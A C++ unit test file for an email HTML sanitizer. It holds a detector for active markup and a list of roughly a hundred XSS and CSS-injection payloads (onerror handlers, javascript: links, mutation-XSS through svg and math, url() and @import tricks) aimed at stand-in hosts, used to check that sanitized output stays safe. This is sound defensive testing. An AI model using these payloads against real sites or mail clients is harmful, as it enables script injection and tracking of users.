#include "Display/Sanitizer.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <random>
#include <set>

#include "Html/HtmlDocument.h"
#include "Text/Ascii.h"
#include "Text/Escapes.h"

namespace qs {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

SanitizerOptions withPictures() {
    return {.inlinePicture = [](std::string_view id) {
        return id == "pic@x" ? std::string("data:image/png;base64,QUJD") : id == "evil" ? "javascript:alert(1)" : "";
    }};
}

std::string sanitized(std::string_view html) { return sanitizeHtml(html, withPictures()).html; }

// What a document that is safe may hold, said once more and from the other side: by what can hurt.
std::string dangerIn(const std::string& html) {
    const HtmlDocument document(html);
    static const std::set<std::string> kActive = {
        "script",  "object",   "embed",     "applet", "iframe", "frame",  "frameset", "form", "input",
        "button",  "textarea", "select",    "base",   "meta",   "link",   "svg",      "math", "template",
        "audio",   "video",    "source",    "track",  "canvas", "portal", "noscript", "xmp",  "title",
        "noembed", "noframes", "plaintext", "keygen", "map",    "area"};
    for (const HtmlNode& node : document.root().elementsByTagName("*")) {
        const std::string name = node.name();
        if (kActive.contains(name)) return "element " + name;
        if (name.find_first_of(":-\"'<") != std::string::npos) return "odd element " + name;
        if (name == "style" && node.textContent().find_first_of("<\\@") != std::string::npos &&
            !node.textContent().starts_with("\n@media"))
            return "style " + node.textContent();
        for (const auto& [key, value] : node.attributes()) {
            const std::string low = asciiLowered(value);
            const bool loads =
                key == "src" || key == "background" || key == "srcset" || key == "poster" || key == "data";
            if (key.starts_with("on") || key.find_first_of(":\"'<=") != std::string::npos) return "attribute " + key;
            if (loads && !(name == "img" && key == "src" && low.starts_with("data:image/") &&
                           !low.starts_with("data:image/svg")))
                return key + " of " + value;
            if (key == "href" && !low.starts_with("http://") && !low.starts_with("https://") &&
                !low.starts_with("mailto:") && !low.starts_with("#"))
                return "link to " + value;
            if (key == "action" || key == "formaction" || key == "srcdoc" || key == "ping" || key == "is") return key;
        }
    }
    for (const HtmlNode& node : document.root().elementsByTagName("*")) {
        const std::string css = asciiLowered(node.name() == "style" ? node.textContent() : node.attribute("style"));
        for (const char* bad : {"url(", "expression", "@import", "javascript", "position", "behavior", "binding", "\\",
                                "image(", "image-set", "content:", "@font-face", "var(", "/*", "<"})
            if (css.find(bad) != std::string::npos) return "style with " + std::string(bad) + ": " + css;
    }
    return "";
}

void expectSafe(std::string_view html) {
    const std::string once = sanitized(html);
    EXPECT_EQ(dangerIn(once), "") << html.substr(0, 300) << "\n-> " << once.substr(0, 500);
    EXPECT_EQ(sanitized(once), once) << html.substr(0, 300);
}

constexpr const char* kHostile[] = {
    // scripts, plainly and in disguise
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://x.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\t\n bar>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr = alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x:x onerror\x0C=alert(1)>",
    "<body onload=alert(1) style='background:url(http://x.example)'>a",
    "<p onclick=alert(1) onmouseover='x' ONFOCUS=y autofocus tabindex=1>a",
    "<details open ontoggle=alert(1)>a",
    "<div style=animation-name:x onanimationstart=alert(1)>a",
    // addresses
    "<a href=javascript:alert(1)>a",
    "<a href='  JaVaScRiPt:alert(1)'>a",
    "<a href='java\tscript:alert(1)'>a",
    "<a href='java&#10;script:alert(1)'>a",
    "<a href='&#106;avascript&colon;alert(1)'>a",
    "<a href='&#x6A&#x61vascript:alert(1)'>a",
    "<a href='\x01javascript:alert(1)'>a",
    "<a href=vbscript:x>a</a><a href=data:text/html,x>b</a><a href=file:///etc/passwd>c</a><a href=blob:x>d</a>",
    "<a href=quillstead://run>a</a><a href=ms-office:x>b</a><a href=tel:1>c</a><a href=/relative>d</a><a href=x>e</a>",
    "<a href='https:evil.example'>a</a><a href='http:///x'>b</a><a href='https://'>c</a>",
    "<a href=https://x.example target=_top ping=http://x.example rel=opener download>a",
    "<img src=javascript:alert(1)><img src='cid:evil'><img src='cid:nobody'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='><img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:image/png;base64,AA\"onerror=alert(1)'>",
    "<img srcset='http://x.example/a 2x' lowsrc=http://x.example dynsrc=http://x.example longdesc=http://x.example>",
    "<table background=http://x.example/a><td background='javascript:x'>a",
    "<blockquote cite=javascript:x>a</blockquote><q cite=http://x.example>b</q><del cite=//x.example>c</del>",
    // elements that load, submit, frame or redirect
    "<object data=http://x.example/a><embed src=http://x.example/b></object>",
    "<object><param name=movie value=http://x.example/a>fallback</object><applet code=x archive=http://x.example>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=http://x.example></frameset>",
    "<form action=http://x.example><input name=p><button "
    "formaction=javascript:x>a</button><textarea><script></textarea></form>",
    "<input type=image src=http://x.example onerror=x><isindex action=javascript:x><keygen autofocus onfocus=x>",
    "<select><option><script>alert(1)</script></select><style><img src=x onerror=alert(1)></style>",
    "<base href=http://x.example/><a href=x>a</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><meta charset=utf-7>+ADw-script+AD4-",
    "<link rel=stylesheet href=http://x.example/a><link rel=dns-prefetch href=//x.example>",
    "<video poster=http://x.example><source src=x onerror=alert(1)></video><audio src=http://x.example><track src=x>",
    "<template><script>alert(1)</script><img src=x onerror=y></template>",
    "<slot><portal src=http://x.example></portal></slot><x-evil is=script>a</x-evil><button is=x>b",
    // foreign content and what hides in it
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:x><text>a</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><p onclick=x>a<script>alert(1)</script></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><maction actiontype=statusline xlink:href=javascript:x>a</maction></math>",
    "<svg><use href=data:image/svg+xml;base64,x /><image href=http://x.example /><animate attributeName=href "
    "to=javascript:x>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    // what one reader takes for text and another for markup
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">a",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><p title=\"</noframes><script>alert(1)</script>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE x [<!ENTITY e '<script>'>]>&e;<?xml-stylesheet href=http://x.example?><?php x ?>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if !mso]><img src=x onerror=y><![endif]>",
    "<plaintext><script>alert(1)</script>",
    "<p title='`><img src=x onerror=alert(1)>`'>a</p><p title=\"&quot;><script>\">b",
    "<a\"><img src=x onerror=alert(1)>\" href=x>a</a>",
    "<p =\"<script>\" '=\"' \"onclick\"=x>a",
    "<table><tr><td><table><script>alert(1)</script><caption><svg/onload=alert(1)>",
    "<a href=\"http://x.example\" <script>alert(1)</script>>a",
    // style attributes
    "<p style='background:url(http://x.example/a)'>a",
    "<p style='background:\\75rl(http://x.example/a)'>a",
    "<p style='background:u\\72 l(\"http://x.example/a\")'>a",
    "<p style='background:/**/url/**/(http://x.example)'>a",
    "<p style='width:expression(alert(1))'>a</p><p style='width:exp/**/ression(alert(1))'>b",
    "<p style='behavior:url(#x);-moz-binding:url(http://x.example#y)'>a",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>a",
    "<p "
    "style='color:red;content:url(http://x.example);cursor:url(http://x.example),auto;list-style:url(//x.example)'>a",
    "<p style='background:image-set(\"http://x.example\" 1x);filter:url(#a);mask:url(http://x.example)'>a",
    "<p style='--x:url(http://x.example);background:var(--x)'>a",
    "<p style='font-family:\"</style><script>alert(1)</script>\";color:red'>a",
    "<p style=\"font-family:'a\\27 ;background:url(http://x.example)'\">a",
    "<p style='color:red}*{background:url(http://x.example)'>a",
    "<p style='@import url(http://x.example);color:red'>a",
    "<p style='background-color:red;background-image:-webkit-image-set(url(http://x.example) 1x)'>a",
    "<p style='animation:x 1s;transition:all;transform:scale(100)'>a",
    // style elements
    "<style>@import 'http://x.example/a';@import url(//x.example/b);p{color:red}</style><p>a",
    "<style>@\\69mport 'http://x.example'; p { color: red }</style>",
    "<style>p{background:url(http://x.example)}</style><style>@font-face{font-family:x;src:url(http://x.example)}</"
    "style>",
    "<style>a[href^='x']{background:url(http://x.example?x)} input[value^=a]{color:red}</style>",
    "<style><!-- </style><script>alert(1)</script> --> p{color:red}</style>",
    "<style>p{color:red}</style ><img src=x onerror=alert(1)>",
    "<style>p{color:red;</style><p>a<style>}*{x</style>",
    "<style>@media screen{@import 'x';p{background:url(//x.example)}q{color:blue}}</style>",
    "<style>@charset 'utf-7';@namespace x 'http://x.example';@page{size:a4}@keyframes k{from{color:red}}</style>",
    "<style type=text/css media=all onload=alert(1)>p::before{content:'x';color:red}</style>",
    "<style>p{color:red}\\</style><b>a</b>",
    "<div><style>*{font-family:'x<img src=x onerror=alert(1)>'}</style></div>",
};

TEST(Sanitizer, NothingActiveSurvives) {
    EXPECT_GE(std::size(kHostile), 60u);
    const auto seen =
        std::count_if(std::begin(kHostile), std::end(kHostile), [](auto html) { return !dangerIn(html).empty(); });
    EXPECT_GE(seen, 85) << "what looks for danger must find it in the sources";
    for (const char* html : kHostile) {
        expectSafe(html);
        expectSafe("<table><tr><td>" + std::string(html) + "</table>");
        expectSafe("<svg><desc>" + std::string(html));
        expectSafe(std::string(html) + std::string(html));
    }
}

// Pieces of all of them in random order, cut at random places: what comes out is safe and stays what it is.
TEST(Sanitizer, RandomMixturesAreSafeAndStable) {
    std::mt19937 random(20261122);
    std::vector<std::string> pieces = {"<table>",
                                       "<tr>",
                                       "<td>",
                                       "</table>",
                                       "<b>",
                                       "</b>",
                                       "<a href=http://x.example>",
                                       "</a>",
                                       "<p>",
                                       "</p>",
                                       "<div>",
                                       "</div>",
                                       "<ul><li>",
                                       "</ul>",
                                       "<h1>",
                                       "</h2>",
                                       "<object>",
                                       "</object>",
                                       "<svg>",
                                       "</svg>",
                                       "<select>",
                                       "<button>",
                                       "<center>",
                                       "<font size=1>",
                                       "</font>",
                                       "<pre>\n",
                                       "\n",
                                       "x",
                                       " ",
                                       "&lt;",
                                       "<!--",
                                       "-->",
                                       "<style>",
                                       "</style>",
                                       "<col>",
                                       "<caption>",
                                       "<dd>",
                                       "<form>",
                                       "<nobr>",
                                       "<ruby><rt>",
                                       "<body bgcolor=red>",
                                       "<span>"};
    for (const char* html : kHostile)
        pieces.emplace_back(html);
    int givenUp = 0;
    for (int i = 0; i < 4000; ++i) {
        std::string html;
        for (int n = 1 + static_cast<int>(random() % 12); n > 0; --n) {
            const std::string& piece = pieces[random() % pieces.size()];
            html += random() % 5 ? piece : piece.substr(0, random() % (piece.size() + 1));
        }
        expectSafe(html);
        if (HasFailure()) return;
        if (sanitized(html).find("white-space: pre-wrap") != std::string::npos) ++givenUp;
    }
    EXPECT_LT(givenUp, 20) << "mail that had to be shown as plain text";
}

TEST(Sanitizer, LeavesHarmlessMailAsItIs) {
    for (const char* html : {
             "<p>Hello <b>Ada</b>,<br>see <a href=\"https://x.example/a?b=1&amp;c=2\" target=\"_blank\" "
             "rel=\"noopener noreferrer\">this</a>.</p>",
             "<table width=\"600\" cellpadding=\"0\" align=\"center\" style=\"border: 1px solid #ccc; font: 12px/1.5 "
             "\"></table>",
             "<img src=\"data:image/png;base64,QUJD\" alt=\"A cat\" width=\"10\">",
             "<blockquote type=\"cite\"><ol start=\"3\"><li>x</li></ol></blockquote>",
             "<pre>a\n  b</pre><h1 id=\"top\">x</h1><a href=\"#top\">up</a>",
             "<p dir=\"rtl\" lang=\"he\">שלום</p>",
         }) {
        const std::string expected =
            std::string(html).find("font: 12px/1.5 ") == std::string::npos
                ? html
                : "<table width=\"600\" cellpadding=\"0\" align=\"center\" style=\"border: 1px solid #ccc; "
                  "font: 12px/1.5\"></table>";
        EXPECT_EQ(sanitized(html), expected);
    }
}

TEST(Sanitizer, KeepsTheStylesThatOnlyLayOut) {
    struct Case {
        const char *before, *after;
    };
    for (const Case& c : {
             Case{"color:RED;Font-Family:'Helvetica Neue',Arial", "color: RED; font-family: \"Helvetica Neue\", Arial"},
             Case{"margin:0 auto!important;width:calc(100% - 2px)",
                  "margin: 0 auto !important; width: calc(100% - 2px)"},
             Case{"color:rgba(1,2,3,.5);x:y;;padding:-1px", "color: rgba(1, 2, 3, .5); padding: -1px"},
             Case{"font:12pxurl(x);margin:1 (2px);color:blue", "margin: 1 (2px); color: blue"},
             Case{"background:#fff url(http://x.example) no-repeat;color:blue", "color: blue"},
             Case{"mso-line-height-rule:exactly;line-height:1.5em/*x*/", "line-height: 1.5em"},
             Case{"color:red;position:absolute", "color: red"},
         })
        EXPECT_EQ(sanitized("<p style=\"" + std::string(c.before) + "\">a</p>"),
                  "<p style=\"" + stringByEscapingXMLEntities(c.after) + "\">a</p>")
            << c.before;
    EXPECT_EQ(
        sanitized("<html><head><style>p.x>a:hover, #y { color:red; behavior:x } @media (max-width:600px){b{width:100%}}"
                  "i{x:y}</style></head><body>t</body></html>"),
        "<style>\np.x>a:hover, #y { color: red }\n@media (max-width:600px) {\nb { width: 100% }\n}\n</style>t");
}

TEST(Sanitizer, CountsWhatItBlocksAndShowsOwnPictures) {
    struct Case {
        const char* html;
        int remote;
    };
    for (const Case& c :
         {Case{"<img src=http://x.example/1><img src=//x.example/2>", 2}, Case{"<img src=cid:pic@x>", 0},
          Case{"<img src='data:image/gif;base64,QUJD'>", 0}, Case{"<td background=http://x.example>", 0},
          Case{"<table background=http://x.example><p style='background:url(http://x.example)'>", 2},
          Case{"<style>p{background:url(http://x.example)} @import 'http://x.example';</style>", 2},
          Case{"<link rel=stylesheet href=http://x.example>", 1}, Case{"<a href=http://x.example>a</a>", 0}})
        EXPECT_EQ(sanitizeHtml(c.html, withPictures()).remoteBlocked, c.remote) << c.html;
    EXPECT_EQ(sanitized("<img src='CID:pic%40x' alt=p>"), "<img src=\"data:image/png;base64,QUJD\" alt=\"p\">");
}

TEST(Sanitizer, AsksForPicturesOnTheWebWithWholeAddressesAndShowsOnlyDataInTheirPlace) {
    struct Case {
        const char* source;
        const char* asked;  // "": nobody is asked
    };
    for (const Case& c : {Case{"http://x.example/1.png", "http://x.example/1.png"},
                          Case{" HTTPS://x.example/a b.png#c ", "HTTPS://x.example/a%20b.png"},
                          Case{"//x.example/2", "https://x.example/2"}, Case{"mailto:a@b.example", ""},
                          Case{"ftp://x.example/3", ""}, Case{"javascript:alert(1)", ""}, Case{"relative.png", ""},
                          Case{"http:///nohost", ""}, Case{"cid:nobody", ""}}) {
        for (const std::string given : {"data:image/png;base64,QUJD", "https://x.example/elsewhere", ""}) {
            std::vector<std::string> asked;
            SanitizerOptions options = withPictures();
            options.remotePicture = [&](std::string_view address) {
                asked.emplace_back(address);
                return given;
            };
            const auto safe = sanitizeHtml("<img src='" + std::string(c.source) + "'>", options);
            EXPECT_EQ(asked, *c.asked ? std::vector<std::string>{c.asked} : std::vector<std::string>()) << c.source;
            const bool isShown = *c.asked && given.starts_with("data:");
            EXPECT_EQ(safe.html, isShown ? "<img src=\"" + given + "\">" : "<img>") << c.source;
        }
    }
}

TEST(Sanitizer, ShowsTheBodysColoursAndMayLeaveQuotesOut) {
    EXPECT_EQ(sanitized("<body bgcolor=red class=x onload=y>a"),
              "<div class=\"x\" style=\"background-color: red\">a</div>");
    SanitizerOptions options;
    options.keepQuotes = false;
    EXPECT_EQ(sanitizeHtml("a<blockquote type=cite>b</blockquote><blockquote>c</blockquote>", options).html,
              "a<blockquote>c</blockquote>");
}

TEST(Sanitizer, HugeAndMisnestedMailIsBounded) {
    for (const char* piece :
         {"<b><p>", "<a href=http://x.example><table>", "<i></b>", "<style>p{", "<p style='a:", "&lt", "<!--",
          "<svg><p>", "<td style='color:red;;;;;'>", "<style>@media x{", "<p style=\"color:((((", "<font color=red>"}) {
        std::string html;
        while (html.size() < 500'000)
            html += piece;
        const std::string once = sanitized(html);
        EXPECT_EQ(dangerIn(once), "") << piece;
        EXPECT_LT(once.size(), 30'000'000u) << piece;
    }
}

TEST(PlainTextToHtml, ShowsTextWithLinksAndQuotations) {
    struct Case {
        const char* why;
        const char* text;
        const char* html;
    };
    for (const Case& c : {
             Case{"lines", "a\r\n b  c\n\nd\n", "a<br> b  c<br><br>d"},
             Case{"markup is text", "<b>&\"", "&lt;b&gt;&amp;&quot;"},
             Case{"links", "see (http://x.example/a_(b)?c=1&d), www.y.example.",
                  "see (<a href=\"http://x.example/a_(b)?c=1&amp;d\">http://x.example/a_(b)?c=1&amp;d</a>), "
                  "<a href=\"http://www.y.example\">www.y.example</a>."},
             Case{"no links", "http:// javascript:alert(1) awww.x", "http:// javascript:alert(1) awww.x"},
             Case{"quotations", "a\n> b\n>> c\n> d\ne",
                  "a<blockquote type=\"cite\">b<blockquote type=\"cite\">c</blockquote>d</blockquote>e"},
         })
        EXPECT_EQ(plainTextToHtml(c.text), "<div style=\"white-space: pre-wrap\">" + std::string(c.html) + "</div>")
            << c.why;
    EXPECT_EQ(dangerIn(sanitized(plainTextToHtml("http://x.example/\"onclick=alert(1) <script>"))), "");
}

}  // namespace
}  // namespace qs
